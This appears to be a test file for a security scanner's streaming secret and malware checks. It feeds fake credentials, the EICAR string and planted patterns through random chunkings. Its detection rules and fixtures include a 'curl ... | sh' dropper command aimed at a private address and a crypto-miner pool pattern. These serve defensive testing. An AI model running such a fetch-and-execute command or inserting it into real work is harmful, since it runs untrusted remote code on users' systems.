/**
 * Issue 16: the streaming engines of the content checks (one-pass keyword automaton for secrets,
 * Aho-Corasick for malware pattern rules, binary told from the first chunk) must find exactly what the
 * engines before them found. (1) Every built-in byte signature and every secret rule's sample, split
 * across a chunk boundary at every position (and in 1-byte chunks), is still found. (2) On real files
 * of this machine and on bodies with secrets and signatures planted in them, under random chunkings,
 * the new engines and the old ones (./reference-streaming.ts) report the same findings.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { createSecretsFileCheck } from '../../../lib/engine/checks/secrets';
import { SecretStreamScanner } from '../../../lib/engine/checks/secrets/rules';
import { EICAR_SIGNATURE_NAME, SignatureSet, parsePatternRules, type SignatureMatch } from '../../../lib/engine/checks/malware/signatures';
import type { EntryInfo } from '../../../lib/engine/layers/layer-reader';
import type { Digest, Finding } from '../../../lib/engine/model';
import { OldSecretStreamScanner, OldStreamMatcher, oldSecretsFindings } from './reference-streaming';
import { EICAR } from './malware/helpers';
import { fake, gcpServiceAccount, generatedKeys, pgpBlock } from './secrets/helpers';
import { mulberry32 as rng } from '../../helpers/prng';
import { bytewise, cutAt, randomCuts } from '../../helpers/chunks';

const LAYER = `sha256:${'5e'.repeat(32)}` as Digest;
const info = (size: number): EntryInfo => ({ type: 'file', size, mode: 0o644, uid: 0, gid: 0, mtime: 0 });

/** The new secrets file check over one body fed as `chunks` (views it overwrites after each write, as the reader may). */
async function newSecrets(path: string, inf: EntryInfo, chunks: readonly Buffer[], blockChars?: number): Promise<readonly Finding[] | undefined> {
  const run = createSecretsFileCheck(blockChars ? { blockChars } : {}).openLayer(LAYER);
  const sink = run.file(path, inf);
  if (!sink) return undefined;
  for (const c of chunks) {
    const view = Buffer.from(c);
    sink.write(view);
    view.fill(0x41);
  }
  sink.end();
  return (await run.finish()).findings;
}

function newMatch(set: SignatureSet, chunks: readonly Buffer[], automaton?: boolean): SignatureMatch[] {
  const m = set.matcher(automaton === undefined ? {} : { automaton });
  for (const c of chunks) {
    const view = Buffer.from(c);
    m.write(view);
    view.fill(0x41);
  }
  return m.end();
}

function oldMatch(set: SignatureSet, chunks: readonly Buffer[]): SignatureMatch[] {
  const m = new OldStreamMatcher(set, set.blocklistSize > 0);
  for (const c of chunks) m.write(c);
  return m.end();
}

const keys = generatedKeys();
const azure = `DefaultEndpointsProtocol=https;AccountName=fakeacct1;AccountKey=${fake.azureKey()};EndpointSuffix=core.windows.net`;

/** One sample per secret rule: [rule id, text in which the rule (and only it) reports]. */
const SECRET_SAMPLES: readonly (readonly [string, string])[] = [
  ['gcp-service-account', gcpServiceAccount(keys.pkcs8)],
  ['azure-storage-connection-string', `STORAGE=${azure}\n`],
  ['private-key', keys.ec],
  ['pgp-private-key', pgpBlock('PRIVATE', 300)],
  ['aws-secret-access-key', `AWS_SECRET_ACCESS_KEY=${fake.awsSecret()}\n`],
  ['aws-access-key-id', `key_id: ${fake.awsKeyId()}\n`],
  ['github-token', `GITHUB_TOKEN=${fake.github('ghp')}\n`],
  ['github-fine-grained-pat', `pat ${fake.githubFineGrained()}\n`],
  ['slack-token', `bot: ${fake.slack()}\n`],
  ['slack-webhook-url', `url = "https://hooks.slack.com/services/${fake.slackWebhookPath()}"\n`],
  ['npm-token', `//registry.npmjs.org/:_authToken=${fake.npm()}\n`],
  ['generic-secret', `DB_PASSWORD="${fake.password()}"\n`],
];

describe('(1) a signature or a secret split across a chunk boundary at every position is still found', () => {
  it.each(SECRET_SAMPLES)('secret rule %s: every split of one boundary, and 1-byte chunks', async (rule, sample) => {
    const body = Buffer.from(`# settings\n${sample}# end\n`, 'latin1');
    const whole = await newSecrets('/app/config', info(body.length), [body]);
    expect(whole!.map((f) => f.id)).toContain(rule);
    expect(whole).toEqual(oldSecretsFindings(LAYER, '/app/config', info(body.length), [body]));
    for (let k = 0; k <= body.length; k++) expect([k, await newSecrets('/app/config', info(body.length), cutAt(body, [k]))]).toEqual([k, whole]);
    expect(await newSecrets('/app/config', info(body.length), bytewise(body))).toEqual(whole);
  });

  it('the built-in EICAR detection: every split, 1-byte chunks, with trailing whitespace', () => {
    for (const body of [EICAR, Buffer.concat([EICAR, Buffer.from(' \r\n\t\x1a', 'latin1')])]) {
      const expected = [EICAR_SIGNATURE_NAME];
      for (let k = 0; k <= body.length; k++) expect([k, newMatch(SignatureSet.builtin(), cutAt(body, [k])).map((m) => m.name)]).toEqual([k, expected]);
      expect(newMatch(SignatureSet.builtin(), bytewise(body)).map((m) => m.name)).toEqual(expected);
    }
  });

  const rules = parsePatternRules(
    [
      'Linux.Miner.XMRig-Pool: "stratum+tcp://"',
      'Script.Dropper.Example: "curl -s http://\\x31\\x30.0.0.1/x | sh"',
      'Bin.Marker: de ad be ef 00 01 02 03',
      'Text.Overlap: "abcabd"',
      'Text.Suffix: "cabd"',
      'Linux.Backdoor.Example: 7f 45 4c 46 02 01 01 00 @0',
      'At.Offset: "MAGIC" @5',
    ].join('\n'),
    'test.rules',
  );
  const sets = { 'all 7 rules (automaton)': SignatureSet.of({ patterns: rules }), '2 rules (indexOf per rule)': SignatureSet.of({ patterns: rules.slice(0, 2) }) };
  const planted = Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]),
    Buffer.from('..abcabcabd..curl -s http://10.0.0.1/x | sh..', 'latin1'),
    Buffer.from([0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3]),
    Buffer.from(' stratum+tcp://pool:3333 ', 'latin1'),
  ]);

  it.each(Object.keys(sets))('byte-pattern rules, %s: every split, 1-byte chunks, automaton on and off, as the old matcher', (name) => {
    const set = sets[name as keyof typeof sets];
    const expected = oldMatch(set, [planted]);
    expect(expected.length).toBe(name.startsWith('all') ? 6 : 2);
    for (const automaton of [undefined, true, false]) {
      for (let k = 0; k <= planted.length; k++) expect([k, automaton, newMatch(set, cutAt(planted, [k]), automaton)]).toEqual([k, automaton, expected]);
      expect(newMatch(set, bytewise(planted), automaton)).toEqual(expected);
    }
  });
});

/** Real files of this machine: executables, libraries, scripts and text (deterministic order, bounded). */
function realFiles(): { path: string; body: Buffer }[] {
  const out: { path: string; body: Buffer }[] = [];
  const walk = (dir: string, depth: number, budget: { files: number; bytes: number }): void => {
    let names: string[];
    try {
      names = readdirSync(dir).sort();
    } catch {
      return;
    }
    for (const n of names) {
      if (budget.files <= 0 || budget.bytes <= 0) return;
      const p = join(dir, n);
      const st = statSync(p, { throwIfNoEntry: false });
      if (!st) continue;
      if (st.isDirectory() && depth > 0) walk(p, depth - 1, budget);
      else if (st.isFile() && st.size > 0 && st.size <= 2 * 1024 * 1024) {
        try {
          const body = readFileSync(p);
          out.push({ path: p, body });
          budget.files--;
          budget.bytes -= body.length;
        } catch {
          // unreadable: skip
        }
      }
    }
  };
  const MiB = 1024 * 1024;
  for (const [d, files, bytes] of [['/usr/bin', 120, 8 * MiB], ['/usr/lib/python3', 300, 8 * MiB], ['/usr/share/perl5', 150, 4 * MiB], ['/etc', 150, 2 * MiB], ['/usr/lib/x86_64-linux-gnu', 40, 6 * MiB]] as const) {
    walk(d, 4, { files, bytes });
  }
  return out;
}

describe('(2) the new engines and the old ones report the same on real and planted inputs', () => {
  const files = realFiles();

  it('reads a real sample of this machine (binaries and text)', () => {
    expect(files.length).toBeGreaterThan(200);
    expect(files.some((f) => f.body.subarray(0, 4).toString('latin1') === '\x7fELF')).toBe(true);
    expect(files.some((f) => !f.body.subarray(0, 8192).includes(0))).toBe(true);
  });

  it('secrets: real files as /app text files, and the same files with every sample planted, under random chunkings', async () => {
    const r = rng(1616);
    let findings = 0;
    for (const f of files) {
      const variants = [f.body];
      if (!f.body.subarray(0, 8192).includes(0) && f.body.length < 512 * 1024) {
        const [, sample] = SECRET_SAMPLES[Math.floor(r() * SECRET_SAMPLES.length)];
        const at = Math.floor(r() * (f.body.length + 1));
        variants.push(Buffer.concat([f.body.subarray(0, at), Buffer.from(`\n${sample}\n`, 'latin1'), f.body.subarray(at)]));
      }
      for (const body of variants) {
        const path = `/app/${f.path.replace(/^\//, '').replace(/[./]/g, '_')}`;
        const expected = oldSecretsFindings(LAYER, path, info(body.length), [body]);
        for (const cuts of [[], randomCuts(r, body.length)]) {
          const got = await newSecrets(path, info(body.length), cutAt(body, cuts));
          expect([f.path, cuts, got]).toEqual([f.path, cuts, expected]);
        }
        findings += expected?.length ?? 0;
      }
    }
    expect(findings).toBeGreaterThan(100);
  });

  it('secrets over several windows (small blockChars): the new scanner and the old one give the same hits', () => {
    const r = rng(99);
    const text = files.filter((f) => !f.body.subarray(0, 8192).includes(0)).map((f) => f.body).slice(0, 60);
    let body = Buffer.alloc(0);
    for (const t of text) {
      const [, sample] = SECRET_SAMPLES[Math.floor(r() * SECRET_SAMPLES.length)];
      body = Buffer.concat([body, t, Buffer.from(`\n${sample}\n`, 'latin1')]);
      if (body.length > 3 * 1024 * 1024) break;
    }
    for (const block of [65_536, 700_000]) {
      const old = new OldSecretStreamScanner(undefined, block);
      const now = new SecretStreamScanner(undefined, block);
      for (const c of cutAt(body, randomCuts(r, body.length))) {
        old.write(c);
        now.write(c);
      }
      const expected = old.end();
      expect(expected.length).toBeGreaterThan(20);
      expect(now.end()).toEqual(expected);
    }
  });

  it('malware: built-in, pattern rules drawn from the files themselves and a blocklist of some of them, automaton on and off', () => {
    const r = rng(7);
    // Rules: byte strings cut from real files (so they match), plus look-alikes with one byte changed.
    const lines: string[] = [];
    for (let i = 0; i < 24; i++) {
      const f = files[Math.floor(r() * files.length)];
      const len = 4 + Math.floor(r() * 40);
      const at = Math.floor(r() * Math.max(1, f.body.length - len));
      const bytes = Buffer.from(f.body.subarray(at, at + len));
      if (bytes.length < 4) continue;
      if (i % 4 === 3) bytes[bytes.length - 1] ^= 0x5a;
      lines.push(`Real.Sample-${i}: ${bytes.toString('hex')}${i % 6 === 5 ? ` @${at}` : ''}`);
    }
    const blocklist = files.filter((_, i) => i % 17 === 0).map((f, i) => ({ sha256: createHash('sha256').update(f.body).digest('hex'), name: `Blocked.${i}`, source: { file: 'test.sha256', line: i + 1 } }));
    const set = SignatureSet.of({ patterns: parsePatternRules(lines.join('\n'), 'real.rules'), blocklist });
    let matches = 0;
    for (const f of [...files, { path: 'eicar', body: EICAR }]) {
      const expected = oldMatch(set, [f.body]);
      matches += expected.length;
      for (const cuts of [[], randomCuts(r, f.body.length)]) {
        for (const automaton of [true, false]) expect([f.path, cuts, automaton, newMatch(set, cutAt(f.body, cuts), automaton)]).toEqual([f.path, cuts, automaton, expected]);
      }
    }
    expect(matches).toBeGreaterThan(30);
  });
});
